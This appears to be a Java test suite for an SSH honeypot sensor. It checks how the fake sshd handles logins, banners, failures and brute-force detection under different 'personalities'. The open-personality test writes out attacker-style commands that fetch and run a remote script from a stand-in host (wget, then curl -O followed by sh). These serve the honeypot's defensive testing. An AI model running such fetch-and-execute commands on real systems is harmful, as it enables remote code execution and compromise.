package dev.mirage.service.ssh;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mirage.core.Services;
import dev.mirage.profile.Profile;
import dev.mirage.store.SessionQuery;
import dev.mirage.store.SessionRow;
import dev.mirage.testing.Reads;
import dev.mirage.testing.Sensor;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.auth.keyboard.UserInteraction;
import org.apache.sshd.client.channel.ChannelExec;
import org.apache.sshd.client.channel.ChannelShell;
import org.apache.sshd.client.channel.ClientChannelEvent;
import org.apache.sshd.client.session.ClientSession;
import org.apache.sshd.common.session.Session;
import org.apache.sshd.common.session.SessionListener;
import org.apache.sshd.core.CoreModuleProperties;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** One dialogue per personality against the MINA SSHD client: what the same sshd does when open, secure, failing, strange, aggressive. */
class SshPersonalityTest {
    private static final Duration WAIT = Duration.ofSeconds(10);
    private static final String PROMPT = "[guest@www guest]$ ";

    private Sensor sensor;
    private SshClient client;
    /** Disconnect texts the server sent, by client session. */
    private final Map<Session, String> disconnects = new ConcurrentHashMap<>();
    private final List<String> banners = new ArrayList<>();

    private void start(String personality) throws Exception {
        sensor = Sensor.with("ssh").services(new Services(Map.of("ssh", SshService::new)))
                .set("sensor.personality", personality).set("sensor.seed", 7);
        sensor.start();
        client = SshClient.setUpDefaultClient();
        client.setServerKeyVerifier((session, address, key) -> true);
        CoreModuleProperties.PREFERRED_AUTHS.set(client, "password");
        CoreModuleProperties.WINDOW_TIMEOUT.set(client, WAIT);
        client.addSessionListener(new SessionListener() {
            @Override
            public void sessionDisconnect(Session session, int reason, String msg, String language, boolean initiator) {
                if (!initiator) {
                    disconnects.put(session, msg);
                }
            }
        });
        client.setUserInteraction(new UserInteraction() {
            @Override
            public void welcome(ClientSession session, String banner, String lang) {
                synchronized (banners) {
                    banners.add(banner);
                }
            }

            @Override
            public String[] interactive(ClientSession session, String name, String instruction, String lang,
                                        String[] prompt, boolean[] echo) {
                return null;
            }

            @Override
            public String getUpdatedPassword(ClientSession session, String prompt, String lang) {
                return null;
            }
        });
        client.start();
    }

    @AfterEach
    void stop() throws Exception {
        if (client != null) {
            client.stop();
        }
        if (sensor != null) {
            sensor.afterEach(null);
        }
    }

    private ClientSession login(String user, String... passwords) throws IOException {
        ClientSession s = client.connect(user, "127.0.0.1", sensor.port("ssh")).verify(WAIT).getSession();
        for (String p : passwords) {
            s.addPasswordIdentity(p);
        }
        return s;
    }

    /** Output and exit status of one exec request. */
    private record Exec(String out, Integer status) {
    }

    private static Exec exec(ClientSession s, String command) throws IOException {
        try (ChannelExec c = s.createExecChannel(command)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            c.setOut(out);
            c.setErr(out);
            c.open().verify(WAIT);
            c.waitFor(EnumSet.of(ClientChannelEvent.CLOSED), WAIT);
            return new Exec(out.toString(StandardCharsets.UTF_8), c.getExitStatus());
        }
    }

    /** The text of the server's SSH_MSG_DISCONNECT to this session (the listener may hear it just after auth fails). */
    private String disconnect(ClientSession s) throws InterruptedException {
        for (int i = 0; i < 500 && !disconnects.containsKey(s); i++) {
            Thread.sleep(10);
        }
        return disconnects.get(s);
    }

    private List<SessionQuery.EventRow> events(SessionRow row) throws Exception {
        return sensor.events(row.id());
    }

    private static List<String> misbehaviour(List<SessionQuery.EventRow> events) {
        return SshEventsRead.of(events, "misbehaviour").stream()
                .map(j -> j.at("/mirage/misbehaviour/kind").asText() + " " + j.at("/mirage/misbehaviour/detail").asText())
                .toList();
    }

    @Test
    void openLetsWeakAccountsIntoTheFakeShellInteractiveAndExec() throws Exception {
        start("open");
        try (ClientSession s = login("guest", "guest")) {
            s.auth().verify(WAIT);
            try (ChannelShell shell = s.createShellChannel()) {
                shell.open().verify(WAIT);
                InputStream in = shell.getInvertedOut();
                OutputStream out = shell.getInvertedIn();
                StringBuilder seen = new StringBuilder();
                assertThat(Reads.until(in, seen, PROMPT)).isEqualTo("Last login: Mon Nov 25 17:02:41 2002 from 10.1.1.20\r\n"
                        + PROMPT);
                out.write("uname -a\r".getBytes(StandardCharsets.US_ASCII));
                out.flush();
                // The tty echoes what is typed, as sshd's pty does.
                assertThat(Reads.until(in, seen, PROMPT)).endsWith(PROMPT + "uname -a\r\n"
                        + "Linux www 2.4.18-3 #1 Thu Apr 18 07:37:53 EDT 2002 i686 unknown\r\n" + PROMPT);
                out.write("wgt\u007fet http://203.0.113.9/x\r".getBytes(StandardCharsets.US_ASCII));
                out.flush();
                assertThat(Reads.until(in, seen, PROMPT)).endsWith("wgt\b \bet http://203.0.113.9/x\r\n"
                        + "-bash: wget: command not found\r\n" + PROMPT);
                out.write("exit\r".getBytes(StandardCharsets.US_ASCII));
                out.flush();
                assertThat(Reads.toEnd(in, seen)).endsWith(PROMPT + "exit\r\nlogout\r\n");
                shell.waitFor(EnumSet.of(ClientChannelEvent.CLOSED), WAIT);
                assertThat(shell.getExitStatus()).isZero();
            }
            assertThat(exec(s, "id")).isEqualTo(new Exec("uid=500(guest) gid=500(guest) groups=500(guest)\n", 0));
            assertThat(exec(s, "cd /tmp && curl -O http://203.0.113.9/a.sh; sh a.sh"))
                    .isEqualTo(new Exec("-bash: curl: command not found\n-bash: sh: command not found\n", 127));
        }
        CoreModuleProperties.PREFERRED_AUTHS.set(client, "keyboard-interactive");
        try (ClientSession s = login("oracle", "oracle")) {
            s.auth().verify(WAIT);
            assertThat(exec(s, "whoami").out()).isEqualTo("oracle\n");
        }
        List<SessionRow> rows = sensor.awaitSessions(2);
        List<SessionQuery.EventRow> events = events(rows.get(0));
        assertThat(SshEventsRead.attempts(events)).containsExactly("password guest guest success");
        assertThat(SshEventsRead.clientInfo(events)).anyMatch(i -> i.startsWith("ssh-terminal="));
        assertThat(SshEventsRead.commands(events)).containsSubsequence(
                "shell uname -a -> Linux www 2.4.18-3 #1 Thu Apr 18 07:37:53 EDT 2002 i686 unknown\n" + PROMPT + " ",
                "shell wget http://203.0.113.9/x -> -bash: wget: command not found\n" + PROMPT + " [\"not-found\"]",
                "shell exit -> logout\n ",
                "exec id -> uid=500(guest) gid=500(guest) groups=500(guest)\n ");
        assertThat(SshEventsRead.attempts(events(rows.get(1)))).containsExactly("keyboard-interactive oracle oracle success");
    }

    @Test
    void secureLetsNoAccountIn() throws Exception {
        start("secure");
        try (ClientSession s = login("guest", "guest", "test", "oracle")) {
            assertThatThrownBy(() -> s.auth().verify(WAIT)).isInstanceOf(Exception.class);
        }
        var events = events(sensor.awaitSessions(1).get(0));
        assertThat(SshEventsRead.attempts(events)).containsExactly("password guest guest failure",
                "password guest test failure", "password guest oracle failure");
        assertThat(SshEventsRead.commands(events)).isEmpty();
    }

    @Test
    void failingCutsKeyExchangesCorruptsPacketsAndBreaksTheWeakAccountsHome() throws Exception {
        start("failing");
        List<Exec> broken = new ArrayList<>();
        List<String> refused = new ArrayList<>();
        for (int i = 0; i < 16 && (broken.isEmpty() || !refused.contains("cut") || !refused.contains("corrupted")); i++) {
            ClientSession s = null;
            try {
                s = login("guest", "guest");
                s.auth().verify(WAIT);
                broken.add(exec(s, "uname -a"));
            } catch (IOException | RuntimeException e) {
                String text = s == null ? null : disconnect(s);
                refused.add("Corrupted MAC on input.".equals(text) ? "corrupted" : text == null ? "cut" : text);
            } finally {
                if (s != null) {
                    s.close();
                }
            }
        }
        assertThat(broken).isNotEmpty().allSatisfy(e -> assertThat(e).isEqualTo(new Exec(
                "Could not chdir to home directory /home/guest: Input/output error\n/bin/bash: Input/output error\n", 1)));
        assertThat(refused).contains("cut", "corrupted").containsOnly("cut", "corrupted");
        for (SessionRow row : sensor.sessions()) {
            List<String> attempts = SshEventsRead.attempts(events(row));
            if (attempts.equals(List.of("password guest guest success"))) {
                continue;
            }
            assertThat(row.reason()).isEqualTo("failing");
            assertThat(attempts).isIn(List.of(), List.of("password guest guest failure"));
        }
    }

    @Test
    void strangeDrawsBannersAndRefusesARightPasswordNowAndThen() throws Exception {
        start("strange");
        List<String> profileBanners = Profile.load("linux").section("ssh", SshTexts.class).strangeBanners();
        Set<String> seen = new HashSet<>();
        for (int i = 0; i < 4; i++) {
            int before = banners.size();
            // The same right password twice: the strange sshd may refuse the first.
            try (ClientSession s = login("guest", "guest", "guest")) {
                s.auth().verify(WAIT);
                assertThat(exec(s, "whoami").out()).isEqualTo("guest\n");
            }
            // A connection drawing the profile's "" gets no banner at all.
            seen.add(banners.size() > before ? banners.get(banners.size() - 1) : "");
        }
        assertThat(profileBanners).containsAll(seen);
        List<List<String>> attempts = new ArrayList<>();
        for (SessionRow row : sensor.awaitSessions(4)) {
            attempts.add(SshEventsRead.attempts(events(row)));
        }
        assertThat(attempts).allSatisfy(a -> assertThat(a).last().isEqualTo("password guest guest success"));
        // Under sensor.seed 7 the four connections draw two banners (one of them none) and one refusal.
        assertThat(seen).hasSizeGreaterThan(1);
        assertThat(attempts).anySatisfy(a -> assertThat(a).containsExactly("password guest guest failure",
                "password guest guest success"));
    }

    @Test
    void aggressiveDetectsRootLoginsByPasswordOrKeyAndASecondFailure() throws Exception {
        start("aggressive");
        String detected = "Access denied. This login attempt has been logged and reported to the system administrator.";
        try (ClientSession s = login("root", "toor")) {
            assertThatThrownBy(() -> s.auth().verify(WAIT)).isInstanceOf(Exception.class);
            assertThat(disconnect(s)).isEqualTo(detected);
        }
        CoreModuleProperties.PREFERRED_AUTHS.set(client, "publickey");
        try (ClientSession s = client.connect("root", "127.0.0.1", sensor.port("ssh")).verify(WAIT).getSession()) {
            s.addPublicKeyIdentity(KeyPairGenerator.getInstance("EC").generateKeyPair());
            assertThatThrownBy(() -> s.auth().verify(WAIT)).isInstanceOf(Exception.class);
            assertThat(disconnect(s)).isEqualTo(detected);
        }
        CoreModuleProperties.PREFERRED_AUTHS.set(client, "password");
        try (ClientSession s = login("admin", "admin", "guest", "123456")) {
            assertThatThrownBy(() -> s.auth().verify(WAIT)).isInstanceOf(Exception.class);
            assertThat(disconnect(s)).isEqualTo(detected);
        }
        List<SessionRow> rows = sensor.awaitSessions(3);
        assertThat(rows).extracting(SessionRow::reason).containsExactly("detected", "detected", "detected");
        assertThat(misbehaviour(events(rows.get(0)))).containsExactly("root-login root");
        assertThat(misbehaviour(events(rows.get(1)))).containsExactly("root-login root");
        assertThat(SshEventsRead.attempts(events(rows.get(1)))).singleElement().asString().startsWith("publickey root ecdsa");
        assertThat(misbehaviour(events(rows.get(2)))).containsExactly("brute-force admin");
        assertThat(SshEventsRead.attempts(events(rows.get(2)))).containsExactly("password admin admin failure",
                "password admin guest failure");
    }
}
